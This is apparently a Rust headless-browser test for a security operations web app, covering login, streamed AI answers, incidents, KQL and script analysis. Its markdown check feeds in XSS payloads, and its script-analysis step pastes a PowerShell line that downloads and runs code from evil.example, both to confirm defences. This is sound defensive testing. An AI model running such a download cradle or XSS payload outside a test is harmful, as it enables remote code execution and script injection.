//! Browser test of the web app: headless Chromium driven over WebDriver (chromedriver +
//! fantoccini) against the real Bulwark server on a small demo tenant.
//!
//! Scenario: sign in, ask a prompt and watch it stream, check its evidence, pin it and find it
//! on the pinboard, open the session, run a promptbook, open an incident and its one-click
//! summary, run KQL (diagnostics, table, chart), analyze a script, switch to the dark theme.
//! Screenshots of the main pages (light and dark) go to `tests/screenshots/` (git-ignored) or
//! `$BULWARK_SCREENSHOTS`.
//!
//! Needs `chromium` and `chromedriver` (Debian: `apt-get install chromium chromium-driver`;
//! or set `BULWARK_CHROMIUM` / `BULWARK_CHROMEDRIVER`). Without them the test skips with a
//! message, except under CI (`CI` set), where it fails.

use bulwark_server::db::{Db, HashCost};
use bulwark_server::names::{Role, WorkspaceName};
use bulwark_server::{RateLimit, Server, ServerConfig};
use fantoccini::{Client, ClientBuilder, Locator};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

type TestResult<T = ()> = Result<T, Box<dyn std::error::Error>>;

/// Finds an executable: the env override, then well-known paths, then $PATH.
fn find_exe(env: &str, names: &[&str]) -> Option<PathBuf> {
    if let Some(p) = std::env::var_os(env) {
        let p = PathBuf::from(p);
        return p.is_file().then_some(p);
    }
    for n in names {
        let p = Path::new("/usr/bin").join(n);
        if p.is_file() {
            return Some(p);
        }
        for dir in std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default()) {
            let p = dir.join(n);
            if p.is_file() {
                return Some(p);
            }
        }
    }
    None
}

/// Chromium and chromedriver, or None (with why) when they are not installed.
fn browser_binaries() -> Result<(PathBuf, PathBuf), String> {
    let chromium = find_exe("BULWARK_CHROMIUM", &["chromium", "chromium-browser", "google-chrome"])
        .ok_or("chromium not found (set BULWARK_CHROMIUM)")?;
    let driver = find_exe("BULWARK_CHROMEDRIVER", &["chromedriver"])
        .ok_or("chromedriver not found (set BULWARK_CHROMEDRIVER)")?;
    Ok((chromium, driver))
}

fn free_port() -> TestResult<u16> {
    Ok(TcpListener::bind("127.0.0.1:0")?.local_addr()?.port())
}

/// The chromedriver process, killed on drop (also when an assertion fails).
struct Driver {
    child: Child,
    url: String,
}

impl Drop for Driver {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn start_driver(driver: &Path) -> TestResult<Driver> {
    let port = free_port()?;
    let child = Command::new(driver)
        .arg(format!("--port={port}"))
        .arg("--allowed-ips=127.0.0.1")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()?;
    let d = Driver { child, url: format!("http://127.0.0.1:{port}") };
    let start = Instant::now();
    while TcpStream::connect(("127.0.0.1", port)).is_err() {
        if start.elapsed() > Duration::from_secs(20) {
            return Err("chromedriver did not start listening".into());
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    Ok(d)
}

async fn open_browser(chromium: &Path, driver: &Driver, profile: &Path) -> TestResult<Client> {
    let caps = serde_json::json!({
        "browserName": "chrome",
        "goog:chromeOptions": {
            "binary": chromium,
            "args": [
                "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                "--disable-background-networking", "--disable-component-update", "--disable-sync",
                "--disable-dev-shm-usage", "--window-size=1280,1000",
                format!("--user-data-dir={}", profile.display()),
            ],
        },
    });
    let serde_json::Value::Object(caps) = caps else { return Err("caps".into()) };
    let client = ClientBuilder::new(hyper_util::client::legacy::connect::HttpConnector::new())
        .capabilities(caps)
        .connect(&driver.url)
        .await?;
    Ok(client)
}

const WAIT: Duration = Duration::from_secs(30);

/// Waits for a CSS selector to match (the app renders asynchronously).
async fn wait_css(c: &Client, css: &str) -> TestResult<fantoccini::elements::Element> {
    Ok(c.wait()
        .at_most(WAIT)
        .for_element(Locator::Css(css))
        .await
        .map_err(|e| format!("waiting for `{css}`: {e}"))?)
}

/// Waits until a JS expression is truthy; returns its value.
async fn wait_js(c: &Client, expr: &str) -> TestResult<serde_json::Value> {
    let start = Instant::now();
    loop {
        // Elements may not exist yet (or the page may be changing): that counts as "not yet".
        let v = c
            .execute(&format!("try {{ return ({expr}); }} catch (e) {{ return null; }}"), vec![])
            .await?;
        let truthy = match &v {
            serde_json::Value::Null | serde_json::Value::Bool(false) => false,
            serde_json::Value::Number(n) => n.as_f64() != Some(0.0),
            serde_json::Value::String(s) => !s.is_empty(),
            _ => true,
        };
        if truthy {
            return Ok(v);
        }
        if start.elapsed() > WAIT {
            return Err(format!("timed out waiting for `{expr}`").into());
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

// ---- the server: a small demo tenant with incidents, one owner, served on 127.0.0.1:0 ----

/// A running server; dropping it stops the server and removes its directories.
struct Running {
    base: String,
    key: String,
    reader_key: String,
    stop: Option<tokio::sync::oneshot::Sender<()>>,
    thread: Option<std::thread::JoinHandle<()>>,
    _dirs: (tempfile::TempDir, tempfile::TempDir),
}

impl Drop for Running {
    fn drop(&mut self) {
        if let Some(stop) = self.stop.take() {
            let _ = stop.send(());
        }
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

fn start_server() -> TestResult<Running> {
    let data = tempfile::tempdir()?;
    let root = tempfile::tempdir()?;
    {
        let store = bulwark_store::Store::open(data.path())?;
        let options = bulwark_demo::DemoOptions { events: 10_000, seed: 7, ..Default::default() };
        bulwark_demo::write_demo(&store, &options, &mut |_| {})?;
        let mut rules = bulwark_detect::RuleSet::new();
        bulwark_detect::builtin::load_builtin(&mut rules);
        let findings = bulwark_detect::hunt::hunt(
            &store,
            &rules,
            &bulwark_detect::IncidentConfig::default(),
            &mut |_| {},
        )?;
        bulwark_detect::hunt::write_findings(&store, &findings)?;
    }
    let cheap = HashCost { memory_kib: 64, iterations: 1 };
    let mut config = ServerConfig::new(root.path()).with_workspace_dir("default", data.path());
    config.key_hash_cost = cheap;
    config.rate_limit = RateLimit { burst: 10_000, per_second: 10_000.0 };
    let db = Db::open(&config.db_path())?;
    let ws = WorkspaceName::parse("default")?;
    let key = db.add_user("alice", Role::Owner, &ws, cheap)?;
    let reader_key = db.add_user("rita", Role::Reader, &ws, cheap)?;
    drop(db);

    // The server runs on a runtime of its own thread, like `bulwark serve`.
    let (addr_tx, addr_rx) = std::sync::mpsc::channel();
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let thread = std::thread::spawn(move || {
        let Ok(rt) =
            tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build()
        else {
            return;
        };
        // The server's workspaces own runtimes of their own, which must not be dropped inside
        // an async context: the opened server comes back out of block_on and is dropped here.
        let server = rt.block_on(async move {
            let started = async {
                let server = Server::open(config, false).await?;
                let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
                Ok::<_, Box<dyn std::error::Error + Send + Sync>>((server, listener))
            };
            match started.await {
                Ok((server, listener)) => {
                    let _ = addr_tx.send(listener.local_addr().map_err(|e| e.to_string()));
                    let shutdown = async {
                        let _ = stopped.await;
                    };
                    let _ = bulwark_server::serve_state(listener, server.state().clone(), shutdown)
                        .await;
                    Some(server)
                }
                Err(e) => {
                    let _ = addr_tx.send(Err(e.to_string()));
                    None
                }
            }
        });
        drop(server);
    });
    let addr = addr_rx.recv_timeout(Duration::from_secs(120))??;
    Ok(Running {
        base: format!("http://{addr}"),
        key,
        reader_key,
        stop: Some(stop),
        thread: Some(thread),
        _dirs: (data, root),
    })
}

// ---- the test ----

fn screenshot_dir() -> TestResult<PathBuf> {
    let dir = match std::env::var_os("BULWARK_SCREENSHOTS") {
        Some(d) => PathBuf::from(d),
        None => Path::new(env!("CARGO_MANIFEST_DIR")).join("tests").join("screenshots"),
    };
    std::fs::create_dir_all(&dir)?;
    Ok(dir)
}

#[test]
fn web_app_in_headless_chromium() -> TestResult {
    let (chromium, driver) = match browser_binaries() {
        Ok(b) => b,
        Err(why) if std::env::var_os("CI").is_some() => {
            panic!("browser test cannot run under CI: {why} (install chromium and chromium-driver)")
        }
        Err(why) => {
            eprintln!(
                "skipping the browser test: {why} (install chromium and chromium-driver to run it)"
            );
            return Ok(());
        }
    };
    let server = start_server()?;
    let shots = screenshot_dir()?;
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    rt.block_on(async {
        let driver = start_driver(&driver)?;
        let profile = tempfile::tempdir()?;
        let c = open_browser(&chromium, &driver, profile.path()).await?;
        let result = scenario(
            &c,
            &server.base,
            (&server.key, &server.reader_key),
            "Summarize incident 1",
            &shots,
        )
        .await;
        if result.is_err() {
            // Leave what the browser showed for the failure.
            if let Ok(png) = c.screenshot().await {
                let _ = std::fs::write(shots.join("failure.png"), png);
            }
            if let Ok(text) = c.execute("return document.body.innerText", vec![]).await {
                eprintln!("page text at the failure:\n{}", text.as_str().unwrap_or(""));
            }
        }
        let _ = c.close().await;
        result
    })
}

// ---- the scenario: what a user does, checked through the DOM ----

/// Sends keys to an element (WebDriver key codes: \u{E007} is Enter).
const ENTER: &str = "\u{E007}";

async fn shot(c: &Client, dir: &Path, name: &str) -> TestResult {
    // Let layout and fonts settle so the screenshot shows the finished page.
    tokio::time::sleep(Duration::from_millis(250)).await;
    let png = c.screenshot().await?;
    assert!(png.starts_with(b"\x89PNG"), "{name}: not a PNG");
    std::fs::write(dir.join(format!("{name}.png")), png)?;
    Ok(())
}

async fn go(c: &Client, hash: &str) -> TestResult {
    c.execute("location.hash = arguments[0];", vec![serde_json::json!(hash)]).await?;
    Ok(())
}

async fn text_of(c: &Client, css: &str) -> TestResult<String> {
    Ok(wait_css(c, css).await?.text().await?)
}

/// Everything the web app must do against a running server signed in with `api_key`.
async fn scenario(
    c: &Client,
    base: &str,
    (api_key, reader_key): (&str, &str),
    prompt: &str,
    shots: &Path,
) -> TestResult {
    c.set_window_size(1280, 1000).await?;

    // --- sign in: a wrong key is refused on the page, the right one lands on the prompt ---
    c.goto(&format!("{base}/login")).await?;
    let key = wait_css(c, "#api-key").await?;
    key.send_keys("bwk_wrong_key").await?;
    c.find(Locator::Css("#login-submit")).await?.click().await?;
    let err = wait_js(c, "!document.getElementById('login-error').hidden && document.getElementById('login-error').textContent").await?;
    assert!(err.as_str().unwrap_or("").contains("not accepted"), "login error: {err}");
    key.clear().await?;
    key.send_keys(api_key).await?;
    key.send_keys(ENTER).await?;
    let input = wait_css(c, "#prompt-input").await?;
    assert!(c.current_url().await?.fragment().unwrap_or("").starts_with("/prompt"));
    let user = wait_js(c, "document.getElementById('user').textContent").await?;
    assert!(user.as_str().unwrap_or("").contains("owner"), "header shows the role: {user}");

    // Record CSP violations from here on (hash routing keeps this document).
    c.execute(
        "window.__csp = []; document.addEventListener('securitypolicyviolation', e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));",
        vec![],
    )
    .await?;

    // --- the Markdown renderer never turns text into HTML (run in the real browser) ---
    let md = c
        .execute_async(
            r#"const done = arguments[arguments.length - 1];
            import('/js/markdown.js').then(m => {
              const el = m.renderMarkdown('# T\n<img src=x onerror="window.__xss=1"> **b** [x](javascript:window.__xss=2) [ok](https://example.com)\n\n| a | b |\n|---|--:|\n| <script>window.__xss=3</script> | 2 |\n\n```\n<b>code</b>\n```\n\n- one\n  - nested');
              done({
                img: el.querySelectorAll('img,script,b').length,
                js: el.querySelectorAll('a[href^="javascript"]').length,
                links: el.querySelectorAll('a').length,
                strong: el.querySelectorAll('strong').length,
                cells: el.querySelectorAll('td').length,
                right: el.querySelectorAll('td.al-right').length,
                code: el.querySelector('pre code').textContent,
                nested: el.querySelectorAll('ul ul li').length,
                text: el.textContent.includes('<img src=x'),
                xss: window.__xss || 0,
              });
            }).catch(e => done({ error: String(e) }));"#,
            vec![],
        )
        .await?;
    assert_eq!(md["img"], 0, "markdown made elements from text: {md}");
    assert_eq!(md["js"], 0, "javascript: link kept: {md}");
    assert_eq!(md["links"], 1, "only the https link is a link: {md}");
    assert_eq!(md["strong"], 1, "{md}");
    assert_eq!(md["cells"], 2, "{md}");
    assert_eq!(md["right"], 1, "{md}");
    assert_eq!(md["code"], "<b>code</b>", "{md}");
    assert_eq!(md["nested"], 1, "{md}");
    assert_eq!(md["text"], true, "raw HTML stays visible as text: {md}");
    assert_eq!(md["xss"], 0, "{md}");

    // --- the SSE reader handles events split across chunks and CRLF line ends ---
    let sse = c
        .execute_async(
            r#"const done = arguments[arguments.length - 1];
            import('/js/api.js').then(async m => {
              const enc = new TextEncoder();
              const parts = ['event: token\ndata: {"te', 'xt":"a"}\n', '\nevent: done\r\ndata: {}\r\n\r\n: keep-alive\n\n'];
              const body = new ReadableStream({ start(ctl) { for (const p of parts) ctl.enqueue(enc.encode(p)); ctl.close(); } });
              const seen = [];
              await m.readSse(body, (n, d) => seen.push([n, d]));
              done(seen);
            }).catch(e => done({ error: String(e) }));"#,
            vec![],
        )
        .await?;
    assert_eq!(sse, serde_json::json!([["token", {"text": "a"}], ["done", {}]]));

    // --- prompt: Enter sends; tokens stream in; the final answer has evidence ---
    c.execute(
        "window.__streamed = false; new MutationObserver(() => { const s = document.querySelector('.turn .streaming'); if (s && s.textContent) window.__streamed = true; }).observe(document.body, { subtree: true, childList: true, characterData: true });",
        vec![],
    )
    .await?;
    input.send_keys(prompt).await?;
    input.send_keys(ENTER).await?;
    wait_css(c, ".turn .answer[aria-busy='false']").await?;
    let failed = c.find_all(Locator::Css(".turn .answer .notice.error")).await?;
    assert!(failed.is_empty(), "answer failed: {}", text_of(c, ".turn .answer").await?);
    let answer = text_of(c, ".turn .answer .md").await?;
    assert!(answer.len() > 20, "answer too short: {answer:?}");
    assert_eq!(
        c.execute("return window.__streamed", vec![]).await?,
        true,
        "no streamed tokens were shown"
    );
    let evidence = c.find_all(Locator::Css(".turn .evidence-item")).await?;
    assert!(!evidence.is_empty(), "no evidence shown");
    let kql_links = c.find_all(Locator::Css(".turn .evidence-item a[href^='#/kql?q=']")).await?;
    assert!(!kql_links.is_empty(), "no 'Open in KQL editor' link");
    // A citation like [1] in the answer moves focus to that evidence item.
    if let Some(cite) =
        c.find_all(Locator::Css(".turn .answer button.cite")).await?.into_iter().next()
    {
        cite.click().await?;
        let focused = wait_js(c, "document.activeElement && document.activeElement.id").await?;
        assert!(focused.as_str().unwrap_or("").contains("-ev-"), "citation focus: {focused}");
    }
    // The evidence's KQL opens pre-filled in the KQL editor.
    let evidence_query = c
        .execute(
            "return document.querySelector('.turn .evidence-item pre code').textContent",
            vec![],
        )
        .await?;
    let href = kql_links[0].attr("href").await?.unwrap_or_default();
    go(c, &href).await?;
    let editor_text = wait_js(
        c,
        "document.getElementById('kql-editor') && document.getElementById('kql-editor').value",
    )
    .await?;
    assert_eq!(editor_text, evidence_query, "KQL editor pre-filled from the evidence");
    go(c, "#/prompt").await?;
    wait_css(c, ".turn .evidence-item").await?;
    let procs = c.find_all(Locator::Css(".turn .process-log li")).await?;
    assert!(!procs.is_empty(), "no process log");
    let you = text_of(c, ".turn .you").await?;
    assert!(you.contains(prompt), "{you}");

    // Pin and feedback.
    c.find(Locator::Css(".turn button.pin")).await?.click().await?;
    wait_css(c, ".turn button.pin[aria-pressed='true']").await?;
    c.find(Locator::Css(".turn button.fb-up")).await?.click().await?;
    wait_css(c, ".turn button.fb-up[aria-pressed='true']").await?;
    // Show the question and the start of its answer rather than wherever focus scrolled to.
    c.execute("document.querySelector('.turn').scrollIntoView()", vec![]).await?;
    shot(c, shots, "prompt-light").await?;
    assert_labelled(c, "prompt").await?;

    // --- pinboard shows the pin of this session ---
    go(c, "#/pins").await?;
    let pin = text_of(c, ".pin-card h2").await?;
    assert_eq!(pin, prompt, "pinned prompt");
    shot(c, shots, "pinboard-light").await?;
    assert_labelled(c, "pinboard").await?;

    // --- sessions list → session view with the turn ---
    go(c, "#/sessions").await?;
    wait_css(c, "main table.data tbody a").await?.click().await?;
    wait_css(c, "main .turn .answer .md").await?;
    assert!(!text_of(c, "main h1").await?.is_empty());
    // Rename it; the list shows the new name.
    c.execute(
        "const i = document.getElementById('session-name'); i.value = 'Triage notes'; i.form.requestSubmit();",
        vec![],
    )
    .await?;
    wait_js(c, "document.querySelector('main .status').textContent === 'Renamed.'").await?;
    go(c, "#/sessions").await?;
    let names = wait_js(c, "[...document.querySelectorAll('main table.data tbody a')].map(a => a.textContent).join('|')").await?;
    assert!(names.as_str().unwrap_or("").contains("Triage notes"), "{names}");

    // --- promptbook: pick one in the prompt page's launcher, fill its parameters, run it ---
    go(c, "#/prompt").await?;
    wait_js(c, "document.querySelectorAll('#promptbook-launch option').length > 1").await?;
    c.execute(
        "const s = document.getElementById('promptbook-launch'); s.value = s.options[1].value;",
        vec![],
    )
    .await?;
    c.find(Locator::Css("#promptbook-open")).await?.click().await?;
    wait_css(c, "#promptbook-run").await?;
    assert!(c.current_url().await?.fragment().unwrap_or("").starts_with("/promptbooks?name="));
    c.execute(
        "for (const i of document.querySelectorAll('#promptbook-detail input')) i.value = /incident|number/i.test(i.name) ? '1' : /device|host/i.test(i.name) ? 'WS-001' : 'alice';",
        vec![],
    )
    .await?;
    c.find(Locator::Css("#promptbook-run")).await?.click().await?;
    wait_js(
        c,
        "document.querySelector('#promptbook-result .turn, #promptbook-result .notice.error')",
    )
    .await?;
    let pb_err = c.find_all(Locator::Css("#promptbook-result .notice.error")).await?;
    assert!(pb_err.is_empty(), "promptbook failed: {}", text_of(c, "#promptbook-result").await?);
    shot(c, shots, "promptbook-light").await?;
    assert_labelled(c, "promptbooks").await?;

    // --- incidents: queue, one incident, its one-click summary and entity graph ---
    go(c, "#/incidents").await?;
    wait_css(c, "#incident-table tbody tr").await?;
    shot(c, shots, "incidents-light").await?;
    assert_labelled(c, "incidents").await?;
    let first = wait_css(c, "#incident-table tbody a").await?;
    let number = first.text().await?;
    first.click().await?;
    let h1 = text_of(c, "main h1").await?;
    assert!(h1.starts_with(&format!("Incident {number}")), "{h1}");
    wait_css(c, "svg.entity-graph circle").await?;
    c.execute("document.getElementById('h-timeline').scrollIntoView()", vec![]).await?;
    shot(c, shots, "incident-entities-light").await?;
    c.find(Locator::Css("#btn-summary")).await?.click().await?;
    wait_js(c, "document.querySelector('#incident-ai .md, #incident-ai .notice.error')").await?;
    let sum_err = c.find_all(Locator::Css("#incident-ai .notice.error")).await?;
    assert!(sum_err.is_empty(), "summary failed: {}", text_of(c, "#incident-ai").await?);
    assert!(text_of(c, "#incident-ai .md").await?.len() > 20);
    shot(c, shots, "incident-light").await?;
    assert_labelled(c, "incident").await?;
    // Guided response replaces the summary.
    c.find(Locator::Css("#btn-guided")).await?.click().await?;
    wait_js(c, "document.querySelector('#incident-ai section[aria-label=\"Guided response\"] .md, #incident-ai .notice.error')").await?;
    assert!(
        c.find_all(Locator::Css("#incident-ai .notice.error")).await?.is_empty(),
        "guided response failed"
    );
    // Impact goes through the streamed prompt and renders a whole turn.
    c.find(Locator::Css("#btn-impact")).await?.click().await?;
    wait_css(c, "#incident-ai .turn .answer[aria-busy='false']").await?;
    assert!(
        c.find_all(Locator::Css("#incident-ai .notice.error")).await?.is_empty(),
        "impact failed: {}",
        text_of(c, "#incident-ai").await?
    );
    // Take the incident: status and owner are saved and show in the filtered queue.
    c.execute(
        "document.getElementById('u-status').value = 'Active'; document.getElementById('u-owner').value = 'alice'; document.getElementById('u-owner').form.requestSubmit();",
        vec![],
    )
    .await?;
    wait_js(c, "document.querySelector('main .status').textContent === 'Incident updated.'")
        .await?;
    go(c, "#/incidents?status=Active").await?;
    wait_js(c, &format!("[...document.querySelectorAll('#incident-table tbody tr')].some(r => r.cells[0].textContent === '{number}' && r.cells[4].textContent === 'alice')")).await?;

    // --- KQL: a bad query shows line:column diagnostics, a good one a table and a chart ---
    let bad = "SecurityIncident\n| wher Severity == 'High'";
    go(c, &format!("#/kql?q={}", urlencode(bad))).await?;
    wait_css(c, "#kql-editor").await?;
    c.find(Locator::Css("#kql-run")).await?.click().await?;
    let diag = text_of(c, ".diagnostics li").await?;
    assert!(diag.starts_with("2:"), "diagnostic with line:column: {diag}");
    let good =
        "SecurityIncident\n| summarize Incidents = count() by Severity\n| render columnchart";
    c.execute("const e = document.getElementById('kql-editor'); e.value = arguments[0]; e.dispatchEvent(new Event('input'));", vec![serde_json::json!(good)]).await?;
    // Ctrl+Enter runs the query from the editor.
    let editor = c.find(Locator::Css("#kql-editor")).await?;
    editor.send_keys(&format!("\u{E009}{ENTER}\u{E000}")).await?;
    wait_css(c, ".kql-table tbody tr").await?;
    wait_css(c, "svg.chart rect.s0").await?;
    let gutter =
        c.execute("return document.querySelector('.editor .gutter').textContent", vec![]).await?;
    assert_eq!(gutter, "1\n2\n3");
    shot(c, shots, "kql-light").await?;
    assert_labelled(c, "kql").await?;

    // --- scripts: paste, analyze, see the verdict and indicators ---
    go(c, "#/scripts").await?;
    let script = wait_css(c, "#script-input").await?;
    script
        .send_keys("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')")
        .await?;
    c.find(Locator::Css("#script-result")).await?;
    c.execute("document.querySelector('#script-input').form.requestSubmit()", vec![]).await?;
    let verdict = text_of(c, "#script-verdict").await?;
    assert!(verdict.starts_with("Verdict: "), "{verdict}");
    assert!(!verdict.contains("unknown"), "{verdict}");
    shot(c, shots, "scripts-light").await?;
    assert_labelled(c, "scripts").await?;

    // --- `/` focuses the prompt bar from another page ---
    c.execute("document.activeElement && document.activeElement.blur()", vec![]).await?;
    c.find(Locator::Css("body")).await?.send_keys("/").await?;
    wait_js(c, "document.activeElement && document.activeElement.id === 'prompt-input'").await?;

    // --- dark theme: the toggle cycles system → light → dark; pages again in dark ---
    for _ in 0..3 {
        if c.execute("return document.documentElement.dataset.theme || ''", vec![]).await? == "dark"
        {
            break;
        }
        c.find(Locator::Css("#theme-toggle")).await?.click().await?;
    }
    let bg = c.execute("return getComputedStyle(document.body).backgroundColor", vec![]).await?;
    let dark = bg
        .as_str()
        .unwrap_or("")
        .trim_start_matches("rgb(")
        .trim_end_matches(')')
        .split(',')
        .filter_map(|v| v.trim().parse::<u32>().ok())
        .sum::<u32>();
    assert!(dark < 150, "dark background expected, got {bg}");
    wait_css(c, ".turn .answer .md").await?; // the prompt page reloads the session's turns
    shot(c, shots, "prompt-dark").await?;
    go(c, "#/pins").await?;
    wait_css(c, ".pin-card").await?;
    shot(c, shots, "pinboard-dark").await?;
    go(c, "#/incidents").await?;
    wait_css(c, "#incident-table tbody tr").await?;
    shot(c, shots, "incidents-dark").await?;
    go(c, &format!("#/incidents/{number}")).await?;
    wait_css(c, "svg.entity-graph").await?;
    c.find(Locator::Css("#btn-summary")).await?.click().await?;
    wait_css(c, "#incident-ai .md").await?;
    shot(c, shots, "incident-dark").await?;
    go(c, &format!("#/kql?q={}", urlencode(good))).await?;
    c.find(Locator::Css("#kql-run")).await?.click().await?;
    wait_css(c, ".kql-table tbody tr").await?;
    shot(c, shots, "kql-dark").await?;

    // The app is served under the strict CSP, and no violation happened on any page (no inline
    // styles or scripts slipped in).
    let policy = c
        .execute_async(
            "const done = arguments[arguments.length - 1]; fetch('/').then(r => done(r.headers.get('content-security-policy') || '')).catch(e => done(String(e)));",
            vec![],
        )
        .await?;
    let policy = policy.as_str().unwrap_or("");
    assert!(
        policy.contains("script-src 'self'") && policy.contains("style-src 'self'"),
        "CSP: {policy}"
    );
    let csp = c.execute("return window.__csp", vec![]).await?;
    assert_eq!(csp, serde_json::json!([]), "CSP violations");

    // --- sign out goes back to the sign-in page ---
    c.find(Locator::Css("#logout")).await?.click().await?;
    wait_css(c, "#login-form").await?;

    // --- a reader sees incidents but no prompt bar and no update form ---
    let key = wait_css(c, "#api-key").await?;
    key.send_keys(reader_key).await?;
    key.send_keys(ENTER).await?;
    wait_js(c, "document.getElementById('user').textContent.includes('reader')").await?;
    assert!(
        c.find_all(Locator::Css("#prompt-input")).await?.is_empty(),
        "readers get no prompt bar"
    );
    go(c, &format!("#/incidents/{number}")).await?;
    wait_css(c, "svg.entity-graph").await?;
    assert!(c.find_all(Locator::Css("#u-status")).await?.is_empty(), "readers get no update form");
    c.find(Locator::Css("#logout")).await?.click().await?;
    wait_css(c, "#login-form").await?;
    Ok(())
}

/// Fails when a form control on the page has no accessible name (label, aria-label or
/// aria-labelledby) or a button has no text or label.
async fn assert_labelled(c: &Client, page: &str) -> TestResult {
    let missing = c
        .execute(
            "return [...document.querySelectorAll('input, select, textarea, button')].filter(e => !e.closest('[hidden]') && \
               !(e.labels && e.labels.length) && !e.getAttribute('aria-label') && !e.getAttribute('aria-labelledby') && \
               !(e.tagName === 'BUTTON' && e.textContent.trim())).map(e => e.outerHTML.slice(0, 120));",
            vec![],
        )
        .await?;
    assert_eq!(missing, serde_json::json!([]), "controls without an accessible name on {page}");
    Ok(())
}

fn urlencode(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}
